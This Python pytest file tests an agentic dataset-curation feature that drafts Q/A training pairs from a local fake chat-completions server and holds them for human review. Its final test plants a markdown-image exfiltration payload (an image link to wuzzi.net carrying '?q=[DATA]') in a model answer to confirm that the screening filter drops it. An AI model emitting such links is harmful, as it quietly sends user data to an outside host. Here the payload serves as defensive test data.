"""`--curate agentic` against a real OpenAI-compatible HTTP server started in the test."""

from __future__ import annotations

import threading
import time
from pathlib import Path
from typing import Any, Iterator

import pytest
from fastapi import FastAPI, Request

from flowloop.errors import DatasetError
from flowloop.pipeline.api import accept_all, build_dataset, load_manifest, read_rows
from flowloop.pipeline.curate import chat_url, parse_qa
from flowloop.repo import FlowRepo, init_repo

from helpers_serving import free_port
from pipeline_kit import add_pilr


class FakeModelServer:
    """A tiny FastAPI app that answers chat completions with canned Q/A text."""

    def __init__(self) -> None:
        import uvicorn

        self.requests: list[dict[str, Any]] = []
        app = FastAPI()

        @app.post("/v1/chat/completions")
        async def complete(request: Request) -> dict[str, Any]:
            body = await request.json()
            self.requests.append({"body": body, "auth": request.headers.get("authorization")})
            title = body["messages"][1]["content"].splitlines()[0].lstrip("# ")
            content = (f"Q: What problem does '{title}' address?\nA: It records how the team handles {title}.\n"
                       f"Q2: Which rule from '{title}' must every change follow?\nA2: Follow {title} in every change.")
            return {"choices": [{"message": {"role": "assistant", "content": content}}]}

        self.port = free_port()
        self.server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=self.port, log_level="error"))
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> "FakeModelServer":
        self.thread.start()
        deadline = time.monotonic() + 20
        while not self.server.started:
            if time.monotonic() > deadline:
                raise RuntimeError("test server did not start")
            time.sleep(0.05)
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=10)


@pytest.fixture
def model_server() -> Iterator[FakeModelServer]:
    with FakeModelServer() as server:
        yield server


def _write_config(root: Path, url: str) -> None:
    config = root / ".flow" / "config.toml"
    text = config.read_text()
    start = text.index("[dataset]")
    end = text.index("[train]")
    text = text[:start] + (
        "[dataset]\nholdout_share = 0.2\n"
        f'curate_url = "{url}"\ncurate_model = "canned"\ncurate_api_key = "sk-test-abcdefghijklmnopqrstuvwxyz0123"\n\n'
    ) + text[end:]
    config.write_text(text)


def make_repo(root: Path, url: str) -> FlowRepo:
    import datetime as dt

    repo = init_repo(root, name="Acme").repo
    _write_config(root, url)
    repo = FlowRepo(root)
    add_pilr(repo, "evg-money", "evergreen", "Money as integer minor units",
             "## Decision\n\nAll amounts are integer minor units with an ISO currency code.\n", dt.date(2025, 1, 2))
    add_pilr(repo, "cum-dupes", "cumulative", "Duplicate webhooks",
             "## Symptoms\n\nPayments recorded twice.\n\n## What worked\n\nDeduplicate by the Stripe event id.\n",
             dt.date(2025, 2, 2))
    return repo


def test_agentic_drafts_come_from_the_url_and_wait_for_review(tmp_path: Path, model_server: FakeModelServer) -> None:
    repo = make_repo(tmp_path / "acme", f"http://127.0.0.1:{model_server.port}")
    templates = build_dataset(repo)
    assert templates.counts["drafts"] == 0

    manifest = build_dataset(repo, curate="agentic")
    assert not manifest.reused and manifest.curate == "agentic"
    assert len(model_server.requests) == 2  # one per evergreen/cumulative document
    request = model_server.requests[0]
    assert request["body"]["model"] == "canned"
    assert request["auth"] == "Bearer sk-test-abcdefghijklmnopqrstuvwxyz0123"
    assert "curate_api_key" not in manifest.settings
    drafts = read_rows(manifest.file("sft_drafts"))
    assert len(drafts) == 4 and all(row["draft"] is True and row["kind"] == "qa" for row in drafts)
    assert {row["source"] for row in drafts} == {"pilr:evg-money", "pilr:cum-dupes"}
    train_ids = {row["id"] for row in read_rows(manifest.file("sft_train"))}
    assert not train_ids & {row["id"] for row in drafts}  # drafts never train unreviewed

    summary = accept_all(repo)
    assert summary.accepted == len(read_rows(manifest.file("sft_train"))) + 4
    # A plain templates build now includes the accepted drafts (their rows live in the review file).
    after = build_dataset(repo)
    rows = read_rows(after.file("sft_train"))
    accepted = [row for row in rows if row["kind"] == "qa"]
    assert len(accepted) == 4 and all("draft" not in row for row in accepted)
    assert set(row["id"] for row in accepted) == {row["id"] for row in drafts}


def test_unreachable_curation_model_is_a_clear_error(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "acme", f"http://127.0.0.1:{free_port()}")
    with pytest.raises(DatasetError, match="unreachable") as info:
        build_dataset(repo, curate="agentic")
    assert info.value.field == "dataset.curate_url"
    assert load_manifest_absent(repo)


def load_manifest_absent(repo: FlowRepo) -> bool:
    with pytest.raises(DatasetError, match="no dataset has been built"):
        load_manifest(repo)
    return True


def test_chat_url_and_qa_parsing() -> None:
    assert chat_url("http://h:1") == "http://h:1/v1/chat/completions"
    assert chat_url("http://h:1/v1/") == "http://h:1/v1/chat/completions"
    assert chat_url("http://h:1/v1/chat/completions") == "http://h:1/v1/chat/completions"
    text = ("1. **Q:** How are amounts stored?\n**A:** As integer minor units\nwith a currency.\n"
            "Question 2: Why not floats?\nAnswer 2: Floats lose cents.\nQ: short?\nA: no")
    assert parse_qa(text) == [
        ("How are amounts stored?", "As integer minor units\nwith a currency."),
        ("Why not floats?", "Floats lose cents."),
    ]


@pytest.mark.slow  # loads the packaged SmolLM2 (the specialist's base when none is promoted)
def test_agentic_drafts_from_the_specialist_itself(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "acme", "")
    config = repo.config_path.read_text().replace('curate_url = ""', 'curate_url = ""\ncurate_max_docs = 1\ncurate_questions = 1')
    repo.config_path.write_text(config)
    repo = FlowRepo(repo.root)
    manifest = build_dataset(repo, curate="agentic")
    assert manifest.curate == "agentic"
    drafts = read_rows(manifest.file("sft_drafts")) if "sft_drafts" in manifest.files else []
    assert len(drafts) <= 1 and all(row["draft"] is True and row["source"] == "pilr:cum-dupes" for row in drafts)
    assert not {r["id"] for r in drafts} & {r["id"] for r in read_rows(manifest.file("sft_train"))}


def test_a_drafted_answer_the_screen_refuses_never_waits_for_review(tmp_path: Path) -> None:
    from flowloop.pipeline.curate import draft_examples
    from flowloop.pipeline.inputs import load_inputs

    repo = make_repo(tmp_path / "acme", "http://127.0.0.1:9")

    def generate(messages: list[Any]) -> str:
        # Johann Rehberger's markdown-image exfiltration (embracethered.com, 2023) in one answer.
        return ("Q: How are amounts stored?\nA: As integer minor units.\n"
                "Q: Where is the summary?\nA: ![data exfiltration in progress](https://wuzzi.net/logo.png?q=[DATA])")

    drafts = draft_examples(repo, load_inputs(repo), generate=generate)
    assert [d.key for d in drafts] == ["How are amounts stored?"] * 2  # one kept per document, the leak dropped
